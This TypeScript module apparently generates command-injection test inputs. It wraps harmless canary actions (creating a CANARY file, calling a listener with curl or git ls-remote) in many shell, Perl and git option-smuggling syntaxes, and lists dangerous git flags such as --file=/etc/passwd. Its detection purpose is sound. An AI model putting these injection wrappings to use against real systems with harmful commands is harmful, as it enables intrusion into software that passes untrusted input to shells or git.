/** Shell commands that leave a file, a request or a process, wherever they run. */
const deeds = (listener: string) => [
  "touch CANARY",
  "touch ~/CANARY",
  `curl -s ${listener}/asked`,
  `git ls-remote ${listener}/asked`,
  `perl -e 'open F,">CANARY"'`,
  "exec -a CANARY sleep 4000",
];

const AS_COMMAND: readonly ((deed: string) => string)[] = [
  (deed) => deed,
  (deed) => `$(${deed})`,
  (deed) => `\`${deed}\``,
  (deed) => `;${deed};`,
  (deed) => `|${deed}`,
  (deed) => `||${deed}`,
  (deed) => `&${deed}&`,
  (deed) => `\n${deed}\n`,
  (deed) => `\r\n${deed}`,
  (deed) => `a';${deed};'`,
  (deed) => `a";${deed};"`,
  (deed) => `'"$(${deed})"'`,
  (deed) => `\${IFS}$(${deed})`,
  (deed) => `\${x:-$(${deed})}`,
  (deed) => `$((a[$(${deed})]))`,
  (deed) => `a[$(${deed})]`,
  (deed) => `x]$(${deed})`,
  (deed) => `<(${deed})`,
  (deed) => `>(${deed})`,
  (deed) => `() { :; }; ${deed}`,
  (deed) => `\nEOF\n${deed}\n`,
  (deed) => `\nCREDENTIAL\n${deed}\n`,
  (deed) => `@{[\`${deed}\`]}`,
  (deed) => `(?{system("${deed}")})`,
  (deed) => `!${deed}`,
  (deed) => `ext::${deed}`,
  (deed) => `--upload-pack=${deed};`,
  (deed) => `--receive-pack=${deed};`,
  (deed) => `--exec=${deed};`,
  (deed) => `-ccore.fsmonitor=${deed};`,
  (deed) => `--config-env=core.pager=${deed}`,
  (deed) => `--open-files-in-pager=${deed}`,
];

/** Options of git that make or read a file, start a program, or change the action of a command. */
export const OPTIONS =
  "-c -C -F -O -S -e -f -i -m -o -p -q -r -s -u -v -x -z --all --amend --bare --cached --delete --dry-run --edit --exec-path=. --ext-diff --file=/etc/passwd --force --global --hard --help --interactive --mirror --no-index --no-verify --output=CANARY --patch --pathspec-file-nul --prune --quiet --reference=/ --separate-git-dir=CANARY --server-option=x --stdin --system --tags --template=/ --textconv --untracked-files --verbose --work-tree=/ --".split(
    " ",
  );

/** Returns every deed in every wrapping. */
export const commandsAt = (listener: string): readonly string[] =>
  AS_COMMAND.flatMap((wrap) => deeds(listener).map(wrap));
